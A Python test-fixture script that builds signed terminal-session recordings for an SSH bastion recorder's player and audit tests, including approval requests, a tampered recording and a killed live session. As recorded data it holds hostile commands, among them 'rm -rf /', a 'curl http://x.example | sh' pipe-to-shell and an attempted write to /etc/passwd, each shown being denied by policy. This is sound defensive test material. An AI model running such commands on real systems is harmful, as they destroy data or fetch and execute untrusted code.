"""Recordings for the player tests, written by the real recorder (``recorder.service``).

Run as a script (``python player_recordings.py DATA_DIR``) to build the same archive for
the tmux end-to-end test. Three sessions, all signed:

* ``play-alice-0001`` alice@web1: a coloured prompt, ``ls --color``, a vim-like
  alternate-screen program, a resize to 100x30, an scp upload (file transfer event), a
  denied ``rm -rf /`` (policy event), a 30 s idle gap, ``echo needle-in-haystack``.
* ``play-bob-0002`` bob@db1: ``uptime``.
* ``play-carol-0003`` carol@web1: ``cat /etc/hostname``; one byte of its first data
  chunk is flipped after the session closed (tampered).
* ``play-dave-0004`` dave@db1: still open when its recorder process is killed with
  SIGKILL (the index says live; the recording has no trailer).

The audit archive (``make_audit_archive``, ``--audit DIR``), with an approval queue and
an audit log beside the recordings:

* ``audit-erin-0005`` erin@db1: ``systemctl stop pg`` held (request #1, approved by bob:
  "maintenance window"), ``userdel mallory`` held (#2, denied by carol: "not without a
  ticket"), ``curl ... | sh`` denied by rule no-pipe-to-shell, an evasion signal, two
  resizes 0.3 s apart, ``seq 60`` (allowed by rule seq-ok; scrolls 60 lines), an OSC 52
  write, then terminated by bob ("data exfiltration"); a port forward in the audit log.
* ``audit-frank-0006`` frank@web1, sftp: an upload, a download, a rename, a denied
  ``sftp-put /etc/passwd``; SFTP packets as input/output.
"""

from __future__ import annotations

import asyncio
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

from recorder import events as ev
from recorder.reader import Recording
from recorder.service import Recorder, SessionHeader
from recorder.settings import RecorderSettings
from recorder.signing import generate

START = 1_763_900_000.0  # 2025-11-23 12:13:20 UTC
PROMPT_A = b"\x1b[1;32malice@web1\x1b[0m:\x1b[1;34m~\x1b[0m$ "
LS = b"\x1b[01;34mdocs\x1b[0m  \x1b[01;32mrun.sh\x1b[0m  notes.txt  \x1b[41;37mALERT\x1b[0m\r\n"
VIM_ENTER = (
    b"\x1b[?1049h\x1b[>4;2m\x1b[H\x1b[2J"
    b"hello secret-plan\r\n"
    + b"".join(b"\x1b[1;34m~\x1b[0m\r\n" for _ in range(20))
    + b'\x1b[7m"notes.txt" 1L, 18B\x1b[0m\x1b[1;1H'
)
VIM_LEAVE = b"\x1b[?1049l\x1b[2J\x1b[H"


class Clock:
    def __init__(self) -> None:
        self.now = START

    def __call__(self) -> float:
        return self.now


def header(sid: str, user: str, target: str, start: float) -> SessionHeader:
    return SessionHeader(
        session_id=sid,
        user=user,
        target=target,
        protocol="ssh",
        kind="shell",
        client_addr="203.0.113.5:51234",
        start_time=start,
        term="xterm-256color",
        gateway_version="0.1.0",
    )


async def _record(data: Path) -> None:
    key = data / "recording.key"
    clock = Clock()
    settings = RecorderSettings(data_dir=data, signing_key=key, keyframe_interval=5.0)
    r = Recorder(settings, clock=clock)
    await r.start()

    s = await r.open_session(header("play-alice-0001", "alice", "web1", clock.now))
    s.output(b"Welcome to web1\r\n" + PROMPT_A)
    clock.now += 1.0
    s.input(b"ls --color\r")
    s.command("ls --color", source="interactive")
    s.output(b"ls --color\r\n" + LS + PROMPT_A)
    clock.now += 2.0
    s.command("vim notes.txt", source="interactive")
    s.output(b"vim notes.txt\r\n")
    clock.now += 0.5
    s.output(VIM_ENTER)
    clock.now += 3.0
    s.output(VIM_LEAVE + PROMPT_A)
    clock.now += 1.0
    s.resize(100, 30)
    s.output(b"\r\n" + PROMPT_A)
    clock.now += 1.0
    s.command("scp report.pdf backup:", source="interactive")
    s.output(b"scp report.pdf backup:\r\nreport.pdf  100%  12KB\r\n" + PROMPT_A)
    s.file_transfer(
        path="/home/alice/report.pdf", direction="upload", size=12288, sha256="ab" * 32,
        protocol="scp",
    )  # fmt: skip
    clock.now += 1.0
    s.command("rm -rf /", source="interactive")
    s.policy(command="rm -rf /", action="deny", rule="no-rm-root", reason="destructive")
    s.output(b"rm -rf /\r\n\x1b[31mbastille: denied by rule no-rm-root\x1b[0m\r\n" + PROMPT_A)
    clock.now += 30.0  # idle
    s.command("echo needle-in-haystack", source="interactive")
    s.output(b"echo needle-in-haystack\r\nneedle-in-haystack\r\n" + PROMPT_A)
    clock.now += 1.0
    await s.close(exit_status=0)

    clock.now = START + 3600
    s = await r.open_session(header("play-bob-0002", "bob", "db1", clock.now))
    s.output(b"bob@db1$ ")
    clock.now += 1.0
    s.command("uptime", source="interactive")
    s.output(b"uptime\r\n 12:00:00 up 3 days,  load average: 0.00\r\nbob@db1$ ")
    clock.now += 1.0
    await s.close(exit_status=0)

    clock.now = START + 7200
    s = await r.open_session(header("play-carol-0003", "carol", "web1", clock.now))
    s.output(b"carol@web1$ ")
    clock.now += 1.0
    s.command("cat /etc/hostname", source="interactive")
    s.output(b"cat /etc/hostname\r\nweb1\r\ncarol@web1$ ")
    clock.now += 1.0
    await s.close(exit_status=0)

    await _indexed(r)
    await r.close()

    # tamper with carol's recording: flip one byte of the first data chunk's payload
    path = next((data / "recordings").rglob("play-carol-0003.bstl"))
    raw = bytearray(path.read_bytes())
    pos = raw.index(b"\x89BCKD") + 44 + 3
    raw[pos] ^= 0x40
    path.write_bytes(bytes(raw))
    for kf in (data / "keyframes").glob("*.kf"):
        kf.unlink()  # derived data: the player rebuilds it


async def _indexed(r: Recorder) -> None:
    """Wait until the after-close pass has indexed every session (screens included)."""
    deadline = time.monotonic() + 120
    while not all(x.screen_indexed for x in r.index.list_sessions()):
        assert time.monotonic() < deadline, "the archive's sessions were never indexed"
        await asyncio.sleep(0.02)


def _has_command(data: Path, session_id: str) -> bool:
    """Whether the recording file of ``session_id`` holds a command event yet."""
    for path in (data / "recordings").rglob(f"{session_id}*"):
        try:
            rec = Recording.from_bytes(path.read_bytes())
            return any(e.type == ev.COMMAND for e in rec.events())
        except Exception:  # noqa: BLE001 - not readable yet: keep waiting
            return False
    return False


async def _record_live(data: Path) -> None:
    """Record dave's session and never close it (the parent kills this process)."""
    clock = Clock()
    clock.now = START + 10800
    settings = RecorderSettings(
        data_dir=data, signing_key=data / "recording.key", flush_interval=0.1
    )
    r = Recorder(settings, clock=clock)
    await r.start()
    s = await r.open_session(header("play-dave-0004", "dave", "db1", clock.now))
    clock.now += 1.0
    s.command("tail -f /var/log/syslog", source="interactive")
    s.output(b"dave@db1$ tail -f /var/log/syslog\r\nNov 23 15:13:21 db1 cron[1]: ok\r\n")
    # the chunk is in the file before the parent kills this process (a slow machine
    # can take longer than a few flush intervals)
    deadline = time.monotonic() + 60
    while not _has_command(data, "play-dave-0004"):
        assert time.monotonic() < deadline, "the live session's chunk never reached the file"
        await asyncio.sleep(0.05)
    print("ready", flush=True)
    await asyncio.sleep(60)


AUDIT_START = START + 4 * 3600  # erin's session (audit archive)
CLIENT = "203.0.113.5:51234"


async def _record_audit(data: Path) -> None:
    """The audit archive: decisions, approvals, a kill, a forward, an sftp session."""
    from state.approvals import ApprovalStore

    clock = Clock()
    clock.now = AUDIT_START
    settings = RecorderSettings(data_dir=data, signing_key=data / "recording.key",
                                keyframe_interval=5.0)
    r = Recorder(settings, clock=clock)
    await r.start()
    store = ApprovalStore(data / "approvals.sqlite3", clock=clock)
    sid = "audit-erin-0005"
    s = await r.open_session(header(sid, "erin", "db1", clock.now))
    s.output(b"erin@db1$ ")
    clock.now += 1.0
    s.command("systemctl stop pg", source="interactive")
    s.policy(command="systemctl stop pg", action="approve", rule="approve-service-stop",
             reason="stopping a service needs approval")
    first = store.create(user="erin", target="db1", session=sid, command="systemctl stop pg",
                         rule="approve-service-stop", reason="stopping a service needs approval",
                         timeout=300)
    s.output(b"systemctl stop pg\r\nbastille: stopping a service needs approval\r\n"
             b"bastille: waiting for approval #1 (expires in 5m; Ctrl-C cancels)\r\n")
    clock.now += 5.0
    done = store.decide(first.id, approver="bob", approver_groups=frozenset(),
                        approvers=_Anyone(), approve=True, reason="maintenance window")
    s.approval(request_id=str(done.id), command=done.command, decision=done.status,
               approver=done.decided_by, reason=done.decision_reason or "")
    s.output(b"bastille: approved by bob\r\nerin@db1$ ")
    clock.now += 2.0
    s.command("userdel mallory", source="interactive")
    s.policy(command="userdel mallory", action="approve", rule="approve-account-change",
             reason="account changes need approval")
    second = store.create(user="erin", target="db1", session=sid, command="userdel mallory",
                          rule="approve-account-change", reason="account changes need approval",
                          timeout=300)
    s.output(b"userdel mallory\r\nbastille: waiting for approval #2\r\n")
    clock.now += 4.0
    done = store.decide(second.id, approver="carol", approver_groups=frozenset(),
                        approvers=_Anyone(), approve=False, reason="not without a ticket")
    s.approval(request_id=str(done.id), command=done.command, decision=done.status,
               approver=done.decided_by, reason=done.decision_reason or "")
    s.output(b"bastille: request #2 denied by carol: not without a ticket; the command was "
             b"not run\r\nerin@db1$ ")
    clock.now += 2.0
    s.command("curl http://x.example | sh", source="interactive")
    s.policy(command="curl http://x.example | sh", action="deny", rule="no-pipe-to-shell",
             reason="piping downloads into a shell")
    s.output(b"curl http://x.example | sh\r\nbastille: denied by policy: piping downloads "
             b"into a shell\r\nerin@db1$ ")
    clock.now += 1.0
    s.event("evasion", {"signal": "mismatch", "detail": "typed 12 characters, the line shows 4"})
    clock.now += 1.0
    s.resize(120, 40)
    clock.now += 0.3
    s.resize(121, 40)  # a window being dragged: one timeline entry
    clock.now += 1.0
    s.command("seq 60", source="interactive")
    s.policy(command="seq 60", action="allow", rule="seq-ok", reason="harmless")
    s.output(b"seq 60\r\n" + b"".join(b"line-%02d\r\n" % i for i in range(1, 61))
             + b"erin@db1$ ")
    clock.now += 3.0
    s.command("printf '\\033]52;c;ZXZpbA==\\007'", source="interactive")
    s.output(b"\x1b]52;c;ZXZpbA==\x07erin@db1$ ")
    clock.now += 2.0
    store.request_kill(sid, by="bob", reason="data exfiltration")
    store.kill_done(sid)
    s.marker("session ended: session terminated by bob: data exfiltration")
    s.output(b"\r\nbastille: session terminated by bob: data exfiltration\r\n")
    clock.now += 0.5
    await s.close(exit_status=255)

    clock.now = AUDIT_START + 3600
    f = await r.open_session(SessionHeader(
        session_id="audit-frank-0006", user="frank", target="web1", protocol="ssh",
        kind="sftp", client_addr="198.51.100.7:40000", start_time=clock.now, term="",
        command="sftp", gateway_version="0.1.0"))
    f.input(b"\x00\x00\x00\x05\x01\x00\x00\x00\x03")
    f.output(b"\x00\x00\x00\x05\x02\x00\x00\x00\x03")
    clock.now += 1.0
    f.input(b"\x00\x00\x00\x20\x03" + b"\x00" * 31)
    f.file_transfer(path="/srv/app/release.tar.gz", direction="upload", size=1048576,
                    sha256="cd" * 32, protocol="sftp")
    clock.now += 1.0
    f.file_transfer(path="/etc/hosts", direction="download", size=220, sha256="ef" * 32,
                    protocol="sftp")
    clock.now += 1.0
    f.event("file_op", {"op": "rename", "path": "/srv/app/a", "new_path": "/srv/app/b"})
    clock.now += 1.0
    f.policy(command="sftp-put /etc/passwd", action="deny", rule="no-etc-writes",
             reason="writes to /etc")
    clock.now += 1.0
    await f.close(exit_status=0)
    store.close()
    await _indexed(r)
    await r.close()
    lines = [
        {"ts": AUDIT_START + 3.0, "kind": "forward", "outcome": "ok", "user": "erin",
         "source": CLIENT, "target": "db1", "session": "", "detail": {"to": "db.internal:5432"}},
        {"ts": AUDIT_START + 3.0, "kind": "forward", "outcome": "ok", "user": "erin",
         "source": "192.0.2.1:1", "target": "db1", "session": "",
         "detail": {"to": "another-connection:1"}},
    ]
    (data / "audit.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))


class _Anyone:
    def allows(self, user: str, groups: frozenset[str]) -> bool:
        return True


def make_audit_archive(data: Path) -> Path:
    """Record the audit archive into ``data`` (a new directory); returns it."""
    data.mkdir(parents=True, exist_ok=True)
    generate(data / "recording.key")
    asyncio.run(_record_audit(data))
    return data


def make_archive(data: Path) -> Path:
    """Record the four sessions into ``data`` (a new directory); returns it."""
    data.mkdir(parents=True, exist_ok=True)
    generate(data / "recording.key")
    asyncio.run(_record(data))
    proc = subprocess.Popen(
        [sys.executable, __file__, "--live", str(data)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline()
        assert line.strip() == "ready", f"the live-session recorder failed: {line!r}"
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(10)
    return data


if __name__ == "__main__":
    if sys.argv[1] == "--live":
        asyncio.run(_record_live(Path(sys.argv[2])))
    elif sys.argv[1] == "--audit":
        make_audit_archive(Path(sys.argv[2]))
    else:
        make_archive(Path(sys.argv[1]))
